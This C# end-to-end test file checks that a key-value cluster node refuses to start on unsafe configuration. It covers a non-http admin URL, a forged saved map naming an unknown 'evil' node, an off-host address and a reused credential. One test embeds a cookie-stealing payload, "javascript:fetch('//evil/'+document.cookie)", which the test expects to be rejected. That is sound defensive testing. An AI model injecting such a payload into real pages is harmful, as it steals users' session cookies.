using RdmaKv.Tests;

namespace RdmaKv.EndToEnd.Tests;

/// <summary>
/// A node process refuses to start on a map it must not hold: a cluster file whose admin URL is
/// not http(s), a saved map (from moves) that names other nodes than the cluster file, or a
/// cluster credential equal to the client token. Each says why and exits non-zero.
/// </summary>
public sealed class ClusterStartRefusalTests : IDisposable
{
    readonly string _name = TestNode.UniqueName();
    readonly string _data = TestNode.NewDataDirectory();
    readonly string _directory = TestNode.NewDataDirectory();
    ServerProcess? _server;

    public ClusterStartRefusalTests() => TestNode.UseLoopbackUcx();

    string ClusterFile => Path.Combine(_directory, "cluster.json");

    void WriteCluster(string admin) => File.WriteAllText(ClusterFile, $$"""
        { "epoch": 1, "slots": 8, "nodes": [
          { "id": "node1", "ucx": "127.0.0.1:{{ProcessOutput.FreeLoopbackPort()}}", "admin": "{{admin}}" },
          { "id": "node2", "ucx": "127.0.0.1:9" } ] }
        """);

    string Refusal(params string[] extra)
    {
        _server = ServerProcess.Start(_name, _data, ["--cluster", ClusterFile, "--node-id", "node1", "--admin-urls", "none", .. extra]);
        int exit = _server.WaitForExit();
        Assert.NotEqual(0, exit);
        return _server.Output + _server.Errors;
    }

    [Fact]
    public void AClusterFileWithAJavascriptAdminUrlIsRefusedAtStartWithAClearMessage()
    {
        WriteCluster("javascript:fetch('//evil/'+document.cookie)");

        string said = Refusal();

        Assert.Contains("admin URL 'javascript:", said);
        Assert.Contains("http or https", said);
    }

    [Fact]
    public void ASavedMapThatNamesANodeTheClusterFileDoesNotIsRefusedAtStart()
    {
        WriteCluster("http://127.0.0.1:1");
        Directory.CreateDirectory(_data);
        File.WriteAllText(Path.Combine(_data, "cluster-map.json"), """
            { "epoch": 9000000000000000000, "slots": 8, "nodes": [
              { "id": "node1", "ucx": "127.0.0.1:1" }, { "id": "evil", "ucx": "127.0.0.1:9" } ],
              "owners": ["node1","evil","evil","evil","evil","evil","evil","evil"] }
            """);

        string said = Refusal();

        Assert.Contains("cluster-map.json does not fit", said);
    }

    [Theory]
    [InlineData("ucx")]
    [InlineData("admin")]
    public void ANodeWhoseAddressIsNotOnThisHostSaysSoInOneLineNamingItAndThisHostsAddresses(string plane)
    {
        // 198.51.100.1 is TEST-NET-2 (RFC 5737): no host has it.
        File.WriteAllText(ClusterFile, """
            { "epoch": 1, "slots": 8, "nodes": [
              { "id": "far", "ucx": "198.51.100.1:7400", "admin": "http://198.51.100.1:7480" },
              { "id": "node2", "ucx": "127.0.0.1:9" } ] }
            """);
        _server = ServerProcess.Start(_name, _data, ["--cluster", ClusterFile, "--node-id", "far", .. plane == "ucx" ? ["--admin-urls", "none"] : Array.Empty<string>()]);

        Assert.Equal(3, _server.WaitForExit());
        Assert.DoesNotContain("Unhandled", _server.Errors, StringComparison.Ordinal);
        string[] lines = _server.Errors.Split('\n', StringSplitOptions.RemoveEmptyEntries);
        Assert.True(lines.Length == 1, _server.Errors);
        Assert.Contains("198.51.100.1 is not an address of this host", lines[0], StringComparison.Ordinal);
        Assert.Contains("no node far runs here", lines[0], StringComparison.Ordinal);
        Assert.Contains("127.0.0.1", lines[0], StringComparison.Ordinal); // where it looked: this host's addresses
    }

    [Fact]
    public void AClusterCredentialEqualToTheClientTokenIsRefusedAtStart()
    {
        WriteCluster("http://127.0.0.1:1");
        string token = Path.Combine(_directory, "token");
        File.WriteAllText(token, "0123456789abcdef0123456789abcdef\n");

        string said = Refusal("--client-token-file", token, "--cluster-token-file", token);

        Assert.Contains("equals the client token", said);
    }

    public void Dispose()
    {
        _server?.Dispose();
        foreach (string d in new[] { _data, _directory })
        {
            try
            {
                Directory.Delete(d, recursive: true);
            }
            catch (IOException)
            {
            }
        }
    }
}
